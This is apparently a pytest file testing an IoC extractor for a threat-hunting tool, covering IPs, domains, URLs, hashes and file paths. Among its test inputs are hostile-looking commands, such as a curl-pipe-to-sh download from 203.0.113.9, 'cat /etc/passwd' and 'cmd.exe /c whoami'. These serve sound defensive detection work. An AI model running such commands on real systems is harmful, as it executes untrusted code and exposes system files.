"""IoC extraction: what must be found, and the look-alikes that must not be."""

import pandas as pd
import pytest

from huntbook.enrichment import extract_iocs, extract_iocs_from_frame, refang


def kinds(text, kind):
    return [value for found_kind, value in extract_iocs(text) if found_kind == kind]


def test_ipv4_found_with_punctuation_around():
    assert kinds("connect 10.0.0.1, then (192.168.1.254).", "ipv4") == ["10.0.0.1",
                                                                       "192.168.1.254"]


@pytest.mark.parametrize("text", [
    "version 10.0.0.1", "v1.2.3.4", "Chrome/120.0.0.0 Safari", "build 10.0.19041.1",
    "1.2.3.4.5", "256.1.1.1", "01.2.3.4", "ver. 2.1.0.3", "Java 1.8.0.281"])
def test_ipv4_not_in_version_numbers(text):
    assert kinds(text, "ipv4") == []


def test_ipv6_forms_and_non_addresses():
    text = ("fe80::1ff:fe23:4567:890a and ::1, 2001:db8::8a2e:370:7334 at 12:30:45 "
            "std::string ::ffff:192.0.2.1 aa:bb:cc:dd:ee:ff")
    assert kinds(text, "ipv6") == ["fe80::1ff:fe23:4567:890a", "::1", "2001:db8::8a2e:370:7334",
                                   "::ffff:192.0.2.1"]


def test_domains_need_a_real_tld_and_are_not_file_or_dotnet_names():
    text = ("powershell.exe -c [System.Management.Automation] System.Security install.sh "
            "notes.md evil.com WWW.Bad-Site.co.uk C:\\tmp\\file.com report.docx a.b.c 1.2.3")
    assert kinds(text, "domain") == ["evil.com", "www.bad-site.co.uk"]


def test_urls_refanged_and_trailing_punctuation_dropped():
    text = "see hxxp://evil[.]com/a?b=1). and https://x.org/path(1), ftp://files.example.net/x."
    assert kinds(text, "url") == ["http://evil.com/a?b=1", "https://x.org/path(1)",
                                  "ftp://files.example.net/x"]
    assert refang("1.2.3[.]4 evil(.)com a[@]b.com hxxps[:]//x") == \
        "1.2.3.4 evil.com a@b.com https://x"


def test_emails():
    assert kinds("mail bob.smith+x@corp.example.com now; not user@host or a@b.exe",
                 "email") == ["bob.smith+x@corp.example.com"]


def test_hashes_by_length_and_not_longer_runs_or_single_class():
    md5, sha1 = "d41d8cd98f00b204e9800998ecf8427e", "da39a3ee5e6b4b0d3255bfef95601890afd80709"
    sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    text = f"{md5.upper()} {sha1} {sha256} {'0' * 32} {'ab' * 17} x{md5}"
    assert extract_iocs(text, ["md5", "sha1", "sha256"]) == [
        ("md5", md5), ("sha1", sha1), ("sha256", sha256)]


def test_windows_paths_with_spaces_env_vars_and_unc():
    text = ('"C:\\Program Files\\Microsoft Office\\WINWORD.EXE" /n report.docx; '
            "%SystemRoot%\\System32\\cmd.exe /c whoami; copy \\\\srv01\\share$\\drop.ps1")
    assert kinds(text, "windows_path") == ["C:\\Program Files\\Microsoft Office\\WINWORD.EXE",
                                           "%SystemRoot%\\System32\\cmd.exe",
                                           "\\\\srv01\\share$\\drop.ps1"]


def test_linux_paths_not_dates_switches_or_url_paths():
    text = "cat /etc/passwd > /tmp/x; ls /usr/local/bin/ 1/2/2024 and/or http://h/a/b /c /bin"
    assert kinds(text, "linux_path") == ["/etc/passwd", "/tmp/x", "/usr/local/bin/", "/bin"]


def test_unknown_type_and_missing_values():
    with pytest.raises(ValueError, match="unknown IoC type"):
        extract_iocs("x", ["ipv5"])
    assert extract_iocs(None) == [] and extract_iocs(float("nan")) == []


def test_frame_extraction_names_rows_and_columns():
    frame = pd.DataFrame({"CommandLine": ["curl http://203.0.113.9/x.sh | sh", None],
                          "Other": ["ok", "ping 8.8.8.8"]}, index=[10, 11])
    found = extract_iocs_from_frame(frame, ["CommandLine", "Other"], ["ipv4", "url"])
    assert list(found.itertuples(index=False, name=None)) == [
        ("url", "http://203.0.113.9/x.sh", 10, "CommandLine"),
        ("ipv4", "203.0.113.9", 10, "CommandLine"),
        ("ipv4", "8.8.8.8", 11, "Other")]
    with pytest.raises(KeyError, match="Missing"):
        extract_iocs_from_frame(frame, "Missing")


def test_subpackages_load_on_first_use():
    import huntbook
    assert huntbook.enrichment.extract_iocs is extract_iocs
    assert callable(huntbook.analysis.build_process_tree)
    with pytest.raises(AttributeError, match="no attribute 'nothing'"):
        huntbook.nothing  # noqa: B018
